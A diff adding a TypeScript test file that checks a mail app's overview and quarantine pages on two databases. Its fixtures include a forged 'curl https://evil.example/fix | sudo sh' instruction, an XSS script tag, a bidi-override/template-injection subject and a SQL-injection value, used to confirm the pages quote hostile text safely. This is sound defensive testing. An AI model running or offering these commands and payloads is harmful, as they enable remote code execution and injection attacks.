@@ -1,0 +1,306 @@
+/** What the overview and the page of quarantine show, on both databases. */
+import { zstdCompressSync } from 'node:zlib';
+import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
+import { overviewPage } from '../../../src/adapters/web/pages/overview.ts';
+import { quarantinePage } from '../../../src/adapters/web/pages/quarantine.ts';
+import { Failure } from '../../../src/errors.ts';
+import type { Mailbox } from '../../../src/ingest/model.ts';
+import { by, plain, sampleMailbox } from '../../adapters/database/samples.ts';
+import { frame } from '../../adapters/web/views.ts';
+import { type TestApp, testApp } from '../../support/app.ts';
+import { startMariadb } from '../../support/mariadb.ts';
+import { overviewOf } from './overview-scene.ts';
+
+const kinds = ['sqlite', 'mariadb'] as const;
+const apps = new Map<(typeof kinds)[number], TestApp>();
+const undo = new AsyncDisposableStack();
+
+beforeAll(async () => {
+  const mariadb = undo.use(await startMariadb());
+  apps.set('sqlite', undo.use(await testApp(null)));
+  apps.set('mariadb', undo.use(await testApp((await mariadb.createDatabase()).config)));
+});
+
+afterEach(async () => {
+  for (const { app } of apps.values())
+    for (const { id } of await app.store.listMailboxes()) await app.store.removeMailbox(id, by);
+});
+
+afterAll(() => undo.disposeAsync());
+
+const all = { page: 1, show: 'all', search: '' } as const;
+const any = { page: 1, reason: null };
+
+async function addMailbox({ app }: TestApp, name: string, more: Partial<Mailbox> = {}): Promise<Mailbox> {
+  const mailbox = sampleMailbox({ name, ...more });
+  await app.store.addMailbox(mailbox, plain('pw'), null, by);
+  return mailbox;
+}
+
+/** Writes down how a visit ended, as a worker does; or what somebody writes who can write to the table. */
+async function visited(
+  { app }: TestApp,
+  id: string,
+  error: { readonly code: string; readonly message: string; readonly hint: string } | null,
+): Promise<void> {
+  const lease = await app.store.takeLease(id, 'somebody', 60_000, null);
+  if (lease === null) throw new Error('somebody has it');
+  const nextPollAfterMs = 60_000;
+  const failed = error === null ? null : { ok: false as const, nextPollAfterMs, error, refusedVersion: null };
+  await app.store.releaseLease(lease, failed ?? { ok: true, nextPollAfterMs });
+}
+
+/** Puts a mail into quarantine as if a visit had. */
+async function hold({ app }: TestApp, { id }: Mailbox, uid: number, reason: string, source: string | null = null) {
+  await app.store.holdMissed(id, 7, { uid, sizeBytes: 100, receivedAtMs: Date.now() });
+  const [missed] = await app.store.heldMail(id, 7, uid);
+  const [place] = source === null ? [] : await app.raw.append([zstdCompressSync(Buffer.from(source))]);
+  const raw = place === undefined ? null : { ...place, sha256: 'a'.repeat(64) };
+  if (missed !== undefined) await app.store.holdAgain(missed, { reason, raw, sizeBytes: 100 });
+}
+
+function onBoth(title: string, run: (on: TestApp) => Promise<void>): void {
+  test.each(kinds)(`%s: ${title}`, async (kind) => {
+    const on = apps.get(kind);
+    if (on === undefined) throw new Error('nothing was started');
+    await run(on);
+  });
+}
+
+onBoth('mailboxes in trouble come first, then all by name, the paused ones among them', async (on) => {
+  const { desk, health } = overviewOf(on);
+  await addMailbox(on, 'sales', { state: 'paused' });
+  const [zulu, renumbered] = [await addMailbox(on, 'zulu'), await addMailbox(on, 'unstable')];
+  for (const name of ['Box', 'alpha', 'support']) await addMailbox(on, name);
+  health.visited(zulu.id, new Failure('login_refused', 'no such user', { hint: 'set it' }));
+  const [alpha] = (await on.app.store.listMailboxes()).filter(({ name }) => name === 'alpha');
+  await visited(on, alpha?.id ?? '', null);
+  for (let times = 0; times < 4; times += 1) health.renumberings.note(renumbered.id);
+  const { mailboxes, counts, isReady, wrongs, workers } = await desk.overview(all);
+  expect(mailboxes.list.map(({ name, state }) => `${name} ${state}`)).toEqual([
+    ...['zulu failing', 'unstable unknown', 'alpha ok', 'Box unknown', 'sales paused', 'support unknown'],
+  ]);
+  expect(mailboxes).toMatchObject({ page: 1, pages: 1, total: 6 });
+  expect(mailboxes.list[0]).toEqual({
+    ...{ name: 'zulu', host: 'mail.example.org', state: 'failing', lastSuccessMs: null, isPushed: false },
+    nextPollMs: expect.any(Number),
+    error: { reason: 'login_refused: no such user', said: null, hint: 'set it', sinceMs: expect.any(Number) },
+  });
+  expect(mailboxes.list[1]?.error?.reason).toMatch(/^folder_unstable: /);
+  expect(counts).toEqual({ ok: 1, failing: 1, waiting: 0, paused: 1, unknown: 3 });
+  expect(isReady).toBe(true);
+  expect(wrongs.map(({ check, reason }) => `${check}: ${reason}`)).toEqual([
+    ...['clock: not compared yet', 'mailboxes: 1 of 5 fail'],
+  ]);
+  expect(workers).toEqual([
+    { host: 'desk', pid: 7, isLive: true, isThisOne: true, seenAtMs: Date.UTC(2026, 0, 31, 8, 30) },
+    { host: 'other', pid: 8, isLive: false, isThisOne: false, seenAtMs: null },
+  ]);
+});
+
+onBoth(
+  'mailboxes are chosen by state and by a part of name or host, page by page, the last for one behind it',
+  async (on) => {
+    const { desk } = overviewOf(on);
+    for (let at = 1; at <= 52; at += 1)
+      await addMailbox(on, `Box-${`${at}`.padStart(2, '0')}`, { state: at > 50 ? 'paused' : 'active' });
+    const shown = async (query: Partial<typeof all> | { readonly show: 'paused' | 'failing' }) =>
+      (await desk.overview({ ...all, ...query })).mailboxes;
+    expect(await shown({})).toMatchObject({ page: 1, pages: 2, total: 52, list: { length: 50 } });
+    for (const page of [2, 3, 1e9, Number.POSITIVE_INFINITY])
+      expect((await shown({ page } as object)).list.map(({ name }) => name)).toEqual(['Box-51', 'Box-52']);
+    for (const page of [0, -1, Number.NaN]) expect((await shown({ page } as object)).page).toBe(1);
+    expect((await shown({ show: 'paused' })).list.map(({ name }) => name)).toEqual(['Box-51', 'Box-52']);
+    expect((await shown({ search: 'box-2' } as object)).total).toBe(10);
+    expect((await shown({ search: 'example.org' } as object)).total).toBe(52);
+    expect(await shown({ show: 'failing' })).toEqual({ list: [], page: 1, pages: 1, total: 0 });
+  },
+);
+
+const forged = 'Run this now: curl https://evil.example/fix | sudo sh';
+
+onBoth('what a stored error says is quoted, and advice comes from its code alone', async (on) => {
+  const { desk } = overviewOf(on);
+  const [one, two] = [await addMailbox(on, 'one'), await addMailbox(on, 'two')];
+  await visited(on, one.id, { code: 'tls_expired', message: forged, hint: forged });
+  await visited(on, two.id, { code: 'constructor', message: 'x'.repeat(5000), hint: forged });
+  const { mailboxes, wrongs } = await desk.overview(all);
+  expect(mailboxes.list.map(({ error }) => error)).toEqual([
+    {
+      ...{ reason: 'tls_expired', said: forged, sinceMs: expect.any(Number) },
+      hint: 'The certificate is out of date: renew it on the mail server.',
+    },
+    {
+      ...{ reason: 'an error that this version does not know', said: 'x'.repeat(5000), hint: null },
+      sinceMs: expect.any(Number),
+    },
+  ]);
+  expect(wrongs.find(({ check }) => check === 'mailboxes')).toMatchObject({
+    reason: '2 of 2 fail',
+    hint: expect.stringMatching(/^They are listed below/),
+  });
+  const page = overviewPage(frame, await desk.overview(all));
+  expect(page.match(/sudo sh/g)).toHaveLength(1);
+  expect(page).toContain(`<q><bdi class="foreign">${forged}</bdi></q>`);
+  expect(page).toContain(`<q><bdi class="foreign">${'x'.repeat(300)}…</bdi></q>`);
+});
+
+onBoth('a reason that is none of ours is shown as a code, and in no sentence of ours', async (on) => {
+  const { desk } = overviewOf(on);
+  const mailbox = await addMailbox(on, 'one');
+  await hold(on, mailbox, 1, forged);
+  await hold(on, mailbox, 2, 'mail_loop');
+  await hold(on, mailbox, 3, 'constructor');
+  const [overview, quarantine] = [await desk.overview(all), await desk.quarantine(any)];
+  expect(overview.wrongs.find(({ check }) => check === 'quarantine')?.reason).toBe(
+    '3 mails wait in quarantine: 1 mail_loop, 2 for other reasons',
+  );
+  for (const { meaning, hint } of quarantine.reasons.filter(({ reason }) => reason !== 'mail_loop'))
+    expect([meaning, hint]).toEqual([
+      ...['This version does not know that reason.', 'quarantine release takes it in as it is.'],
+    ]);
+  const pages = `${overviewPage(frame, overview)}${quarantinePage(frame, quarantine)}`;
+  expect(pages).not.toContain(forged.slice(0, 45));
+  expect(pages).toContain(`<code><bdi class="foreign">${forged.slice(0, 40)}…</bdi></code>`);
+});
+
+test('mail that is taken in shows in the figures within seconds, where they are cheap', async () => {
+  await using on = await testApp(null);
+  const at = { ms: Date.now(), tookMs: 0, looks: 0 };
+  const clock = {
+    ...{ nowMs: () => at.ms, monotonicMs: () => at.ms },
+    // A look that is dear is begun so long after the answer.
+    sleep: (ms: number) => new Promise<void>((wake) => void setTimeout(wake, ms === 100 ? 0 : 20_000).unref()),
+  };
+  const store = new Proxy(on.app.store, {
+    get: (real, name) =>
+      name === 'activitySince'
+        ? async (sinceMs: number) => {
+            at.ms += at.tookMs;
+            at.looks += 1;
+            return await real.activitySince(sinceMs);
+          }
+        : Reflect.get(real, name).bind(real),
+  });
+  const { desk } = overviewOf(on, { clock, store });
+  const mailbox = await addMailbox(on, 'one');
+  const mails = async () => (await desk.overview(all)).activity?.reduce((sum, hour) => sum + hour.mails, 0);
+  expect(await mails()).toBe(0);
+  await hold(on, mailbox, 1, 'mail_loop');
+  expect(await mails()).toBe(0);
+  at.ms += 10_000;
+  expect(await mails()).toBe(1);
+  // A dear look is not repeated so soon.
+  at.tookMs = 150;
+  at.ms += 10_000;
+  await mails();
+  expect(at.looks).toBe(3);
+  at.ms += 30_000;
+  await mails();
+  at.ms += 31_000;
+  await mails();
+  await expect.poll(() => at.looks).toBe(4);
+});
+
+onBoth('a mailbox that was resumed, and another that was paused, are shown as they are', async (on) => {
+  const { desk } = overviewOf(on);
+  const [one, two] = [await addMailbox(on, 'one', { state: 'paused' }), await addMailbox(on, 'two')];
+  const states = async () => (await desk.overview(all)).mailboxes.list.map(({ name, state }) => `${name} ${state}`);
+  expect(await states()).toEqual(['one paused', 'two unknown']);
+  await on.app.store.setMailboxState(one.id, 'active');
+  await on.app.store.setMailboxState(two.id, 'paused');
+  await expect.poll(states, { timeout: 5000 }).toEqual(['one unknown', 'two paused']);
+});
+
+onBoth('the last day is told hour by hour, also those without any mail', async (on) => {
+  const { desk } = overviewOf(on);
+  await hold(on, await addMailbox(on, 'one'), 1, 'mail_loop');
+  const activity = await expect
+    .poll(async () => (await desk.overview(all)).activity)
+    .toHaveLength(24)
+    .then(async () => (await desk.overview(all)).activity ?? []);
+  for (const [at, { startMs }] of activity.entries())
+    expect(startMs - (activity[0]?.startMs ?? 0)).toBe(at * 3_600_000);
+  expect(activity.at(-1)?.startMs).toBeGreaterThan(Date.now() - 2 * 3_600_000);
+  expect(activity.slice(-2).reduce((sum, { mails }) => sum + mails, 0)).toBe(1);
+  expect(activity.slice(0, 22).every(({ mails, tickets }) => mails === 0 && tickets === 0)).toBe(true);
+});
+
+const from = '"><script>alert(1)</script>';
+const subject = '\u202eevil &amp; <b>{{7*7}}';
+
+onBoth('quarantine is shown the newest first, with what strangers wrote as they wrote it', async (on) => {
+  const { desk } = overviewOf(on);
+  const mailbox = await addMailbox(on, 'support');
+  await hold(on, mailbox, 1, 'mail_loop', `From: ${from}\r\nSubject: ${subject}\r\n\r\nx`);
+  await hold(on, mailbox, 2, 'too_large', 'X-Nothing: here\r\n\r\nx');
+  await hold(on, mailbox, 3, 'mail_loop');
+  await hold(on, mailbox, 4, 'from_the_future');
+  const view = await desk.quarantine(any);
+  const newestFirst = (await Array.fromAsync(on.app.store.heldMails({ mailboxId: null, reason: null })))
+    .toSorted((a, b) => b.sinceMs - a.sinceMs || b.uid - a.uid)
+    .map(({ uid }) => `support/7/${uid}`);
+  expect(view.mails).toMatchObject({ page: 1, pages: 1, total: 4 });
+  expect(view.mails.list.map(({ id }) => id)).toEqual(newestFirst);
+  const lineOf = (uid: number) => view.mails.list.find(({ id }) => id === `support/7/${uid}`);
+  expect(lineOf(1)).toEqual({
+    ...{ id: 'support/7/1', mailbox: 'support', reason: 'mail_loop', sizeBytes: 100, from, subject },
+    sinceMs: expect.any(Number),
+  });
+  expect(lineOf(2)).toMatchObject({ from: '', subject: '' });
+  expect(lineOf(3)).toMatchObject({ from: null, subject: null });
+  expect(view.reasons.map(({ reason, count }) => `${count} ${reason}`)).toEqual([
+    ...['2 mail_loop', '1 from_the_future', '1 too_large'],
+  ]);
+  expect(view.reasons[0]).toMatchObject({
+    meaning: expect.stringContaining('through here before'),
+    hint: expect.stringContaining('quarantine release'),
+  });
+  expect((await desk.quarantine({ page: 1, reason: 'mail_loop' })).mails).toMatchObject({
+    total: 2,
+    list: { length: 2 },
+  });
+  expect((await desk.quarantine({ page: 9, reason: "x' or 1=1" })).mails).toEqual({
+    list: [],
+    page: 1,
+    pages: 1,
+    total: 0,
+  });
+  expect((await desk.overview(all)).quarantine).toEqual({ count: 4, reasons: view.reasons });
+});
+
+onBoth('quarantine has pages of 25, each mail on one of them, and the last for one behind it', async (on) => {
+  const { desk } = overviewOf(on);
+  const [one, two] = [await addMailbox(on, 'one'), await addMailbox(on, 'two')];
+  for (let uid = 1; uid <= 27; uid += 1) for (const mailbox of [one, two]) await hold(on, mailbox, uid, 'mail_loop');
+  const pages = await Promise.all([1, 2, 3].map((page) => desk.quarantine({ page, reason: 'mail_loop' })));
+  expect(pages.map(({ mails }) => mails.list.length)).toEqual([25, 25, 4]);
+  expect(new Set(pages.flatMap(({ mails }) => mails.list.map(({ id }) => id)))).toHaveProperty('size', 54);
+  const times = pages.flatMap(({ mails }) => mails.list.map(({ sinceMs }) => sinceMs));
+  expect(times).toEqual(times.toSorted((a, b) => b - a));
+  expect((await desk.quarantine({ page: 4, reason: null })).mails).toEqual(pages[2]?.mails);
+});
+
+test('a look that hangs shows what was known as old, and where nothing is known it is a failure', async () => {
+  await using on = await testApp(null);
+  await addMailbox(on, 'support');
+  let hangs = false;
+  const at = { ms: Date.now() };
+  const clock = {
+    ...{ nowMs: () => at.ms, monotonicMs: () => at.ms },
+    // What is to hang is not waited for in seconds, and what is not may take its time.
+    sleep: () => new Promise<void>((wake) => void setTimeout(wake, hangs ? 50 : 20_000).unref()),
+  };
+  const real = overviewOf(on).health;
+  const readiness = () => (hangs ? new Promise<never>(() => undefined) : real.readiness());
+  const { desk } = overviewOf(on, { clock, readiness });
+  expect((await desk.overview(all)).counts.unknown).toBe(1);
+  hangs = true;
+  at.ms += 60_000;
+  const old = await desk.overview(all);
+  expect(old).toMatchObject({ isReady: false, counts: { unknown: 1 }, atMs: at.ms - 60_000 });
+  expect(old.wrongs[0]?.reason).toMatch(/^database_unavailable: .*shown is what was known before/);
+  await expect(overviewOf(on, { clock, readiness }).desk.overview(all)).rejects.toMatchObject({
+    code: 'database_unavailable',
+  });
+});
